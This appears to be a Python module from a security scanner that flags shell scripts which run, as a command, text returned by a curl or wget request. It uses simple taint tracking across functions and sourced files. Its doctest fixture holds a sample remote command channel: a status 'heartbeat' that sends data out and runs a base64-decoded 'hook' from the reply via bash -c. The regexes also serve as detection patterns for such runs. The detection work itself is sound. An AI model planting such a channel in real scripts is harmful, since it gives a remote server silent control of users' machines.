"""Shell scripts that run as a command what a web request returned (AITech 9.1).

The family (a remote command channel dressed as a feature): a "heartbeat" or "status
check" posts to a server and applies the "remediation", "hook" or "task" the reply
carries, often base64-encoded, with ``bash -c "$snippet"`` or ``eval "$cmd"``. The request
and the run sit in different functions, often in a sourced library, linked by variables
and function arguments; the one-line cradle rules (``eval "$(curl …)"``) do not see it.

Taint is by name and deliberately simple, over the script and the package's shell files
it sources read as one program: a variable set from a request's reply (``$(curl …)``
without an output file), from a function that prints one, or from a tainted variable is
tainted, and so are the variables a ``while read`` loop fed by a request reads. A function
called with a tainted argument has tainted positional parameters (``$1``, ``$@``) in its
own body only. The finding is a run whose whole command is a tainted value: ``eval
"$cmd"``, ``bash -c "$1"``, ``echo "$step" | sh``; a value used inside a larger command
(``git checkout "$tag"``) is left alone.

>>> files = {
...     "scripts/lib/beat.sh": '''
... beat() { curl -fsS -d "$1" "$STATUS_URL"; }
... run_hook() { bash -c "$1" >/dev/null 2>&1 & }
... apply() {
...   local s; s="$(jq -r '.hook // empty' <<<"$1" | base64 -d)"
...   run_hook "$s"
... }''',
...     "scripts/mon.sh": 'source "$HERE/lib/beat.sh"\\nresp="$(beat "$stats")"\\napply "$resp"\\n',
... }
>>> [(f.file, f.line, f.rule_id) for f in shell_remote_code_findings(files)]
[('scripts/lib/beat.sh', 3, 'shell.remote-code')]
>>> shell_remote_code_findings({**files, "scripts/mon.sh": 'resp="$(beat x)"\\napply "$resp"'})
[]
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping

from .findings import ThreatFinding, line_finding
from .shell_programs import ShellFunction, ShellLine, calls, enclosing, functions, program
from .structure import SHELL, classify
from .textutil import is_test_file

RULE_ID = "shell.remote-code"

_REQUEST = re.compile(r"(?<![\w.-])(?P<program>curl|wget)(?![\w.-])(?P<words>[^\n|;&)]*)")
_SAVED = {
    "curl": re.compile(
        r"(?:^|\s)(?:-[a-zA-Z]*[oO]|--output|--remote-name)(?:[\s=]+(?!-(?:\s|$))|$)"
    ),
    "wget": re.compile(r"^(?!.*(?:\s-[a-zA-Z]*O\s*-(?:\s|$)|--output-document[=\s]+-(?:\s|$)))"),
}
"""A request whose reply goes to a file rather than to the script."""
_STDOUT_REDIRECT = re.compile(r"(?:^|\s)(?:1?>|&>)\s*\S")
_ASSIGNED = re.compile(
    r"(?:^|[\s;&(])(?:(?:local|export|readonly|declare(?:[ \t]+-\w+)?)[ \t]+)?"
    r"([A-Za-z_]\w*)\+?=(?!=)([^\n]*)"
)
_READ = re.compile(r"\b(?:read|mapfile|readarray)\b(?:[ \t]+-\w+)*((?:[ \t]+[A-Za-z_]\w*)+)")
_FED = re.compile(r"[ \t]*(?:<<<|<[ \t]*<\()(?P<feed>[^\n]*)")
_FOR_LOOP = re.compile(r"\bfor[ \t]+([A-Za-z_]\w*)[ \t]+in\b([^\n;]*)")
_FED_DONE = re.compile(r"\bdone\b(?P<fed>[^\n]*)")
_VARIABLE = re.compile(r"\$\{?#?([A-Za-z_]\w*|[1-9@*])")
_POSITIONAL = {str(n) for n in range(1, 10)} | {"@", "*"}
_ALL_POSITIONS = "@"
"""Every positional parameter, tainted at once by a call passing ``"$@"`` on."""
_RUN = re.compile(
    r"(?<![\w.-])(?:eval|(?:ba|z|da|k)?sh[ \t]+-c)[ \t]+(?P<run>[^\n]*)"
    r"|(?<![\w.-])(?:echo|printf)(?:[ \t]+-\w+)*[ \t]+(?P<piped>[^\n|]*)\|[ \t]*(?:ba|z|da)?sh\b"
    r"(?![ \t]+[\w./-]+\.sh\b)"
    r"|(?<![\w.-])(?:ba|z|da)?sh[ \t]+<<<[ \t]*(?P<fed>[^\n]*)"
    r"|(?<![\w.-])(?:source|\.)[ \t]+<\([ \t]*(?:echo|printf)(?:[ \t]+-\w+)*"
    r"[ \t]+(?P<sourced>[^\n]*)"
)
"""A run of text as a shell command, and the words it runs."""
_WHOLE_VALUE = re.compile(
    r"""^["']?\$(?:\{(\w+|[1-9@*])[^}]*\}|(\w+|[1-9@*]))["']?(?:\s|$|[;&|)])"""
)
"""A command that is one variable's value and nothing else (``"$snippet"``, ``${1:-}``)."""
_SAYS = "runs as a command what a web request returned (a remote command channel)"
_ROUNDS = 5
"""Passes over the program: enough for a value handed through a few helpers."""


def shell_remote_code_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """One finding per shell command that runs what a web request returned, over each
    shell script of ``files`` read with the shell files it sources."""
    findings: dict[tuple[str, int], ThreatFinding] = {}
    for path, text in files.items():
        if is_test_file(path) or classify(path, text) != SHELL:
            continue
        code = program(files, path)
        if not any(_REQUEST.search(line.text) for line in code):
            continue
        for line in _remote_runs(code):
            written = files[line.path].split("\n")
            findings.setdefault(
                (line.path, line.number),
                line_finding(line.path, written, line.number, "9.1", "critical", _SAYS, RULE_ID),
            )
    return list(findings.values())


def _remote_runs(code: list[ShellLine]) -> Iterator[ShellLine]:
    """The lines of ``code`` whose whole run command is a value a request returned."""
    spans = functions([line.text for line in code])
    fetching = _fetching(spans)
    tainted: set[str] = set()
    tainted_params: dict[str, set[str]] = {name: set() for name in spans}
    for _ in range(_ROUNDS):
        before = (len(tainted), sum(map(len, tainted_params.values())))
        for index, line in enumerate(code):
            within = enclosing(spans, index)
            mentions = _tainted_mentions(tainted, tainted_params, within)
            for name, value in _ASSIGNED.findall(line.text):
                if _replies(value, fetching) or mentions(value):
                    tainted.add(name)
            for read in _READ.finditer(line.text):
                feed = _read_feed(code, index, read)
                if _replies(feed, fetching) or mentions(feed):
                    tainted |= set(read.group(1).split())
            for name, items in _FOR_LOOP.findall(line.text):
                if _replies(items, fetching) or mentions(items):
                    tainted.add(name)
            for name in spans:
                for arguments in calls(line.text, name):
                    tainted_params[name] |= {
                        _ALL_POSITIONS if word.strip("\"'") in ("$@", "$*") else str(position)
                        for position, word in enumerate(arguments, 1)
                        if mentions(word)
                    }
        if (len(tainted), sum(map(len, tainted_params.values()))) == before:
            break
    for index, line in enumerate(code):
        run = _RUN.search(line.text)
        if run is None:
            continue
        command = next(group for group in run.groups() if group is not None)
        whole = _WHOLE_VALUE.match(command.strip())
        if whole is None or _REQUEST.search(command):
            continue
        name = whole.group(1) or whole.group(2)
        mentions = _tainted_mentions(tainted, tainted_params, enclosing(spans, index))
        if mentions(f"${name}"):
            yield line


def _fetching(spans: dict[str, ShellFunction]) -> set[str]:
    """The functions that print a request's reply, directly or through another one."""
    fetching = {name for name, f in spans.items() if _replies(f.body, set())}
    while True:
        more = {
            name
            for name, f in spans.items()
            if name not in fetching and any(calls(f.body, other) for other in fetching)
        }
        if not more:
            return fetching
        fetching |= more


def _replies(text: str, fetching: set[str]) -> bool:
    """Whether ``text`` holds a request whose reply is printed, or a call of a function
    that prints one.

    >>> _replies('r="$(curl -fsS "$URL")"', set()), _replies("curl -so out.json $U", set())
    (True, False)
    >>> _replies("wget -qO- $U", set()), _replies("wget $U", set())
    (True, False)
    """
    for request in _REQUEST.finditer(text):
        words = request.group("words")
        if not _SAVED[request.group("program")].search(words) and not _STDOUT_REDIRECT.search(
            words
        ):
            return True
    return any(calls(text, name) for name in fetching)


def _tainted_mentions(
    tainted: set[str], tainted_params: dict[str, set[str]], within: str
) -> Callable[[str], bool]:
    """A test of whether a text mentions a tainted variable, seen from function ``within``
    (whose tainted positional parameters are ``tainted_params[within]``)."""
    params = tainted_params.get(within, set())

    def mentions(text: str) -> bool:
        for name in _VARIABLE.findall(text):
            if name in _POSITIONAL:
                if name in params or _ALL_POSITIONS in params or (name in "@*" and params):
                    return True
            elif name in tainted:
                return True
        return False

    return mentions


def _read_feed(code: list[ShellLine], index: int, read: re.Match[str]) -> str:
    """What a ``read`` (or ``mapfile``) at line ``index`` reads: a here-string or process
    substitution after it, a pipe into it, or what feeds the ``while`` loop it heads.

    >>> code = [ShellLine("a.sh", 1, "while read -r c; do"),
    ...         ShellLine("a.sh", 2, 'done < <(curl "$U")')]
    >>> _read_feed(code, 0, _READ.search(code[0].text))
    'curl "$U")'
    """
    text = code[index].text
    fed = _FED.match(text, read.end())
    if fed:
        return fed.group("feed")
    before = text[: read.start()]
    if "|" in before:
        return before
    if not re.search(r"\bwhile\b", before):
        return ""
    for line in code[index : index + 60]:
        done = _FED_DONE.search(line.text)
        if done:
            fed = _FED.match(done.group("fed"))
            return fed.group("feed") if fed else ""
    return ""
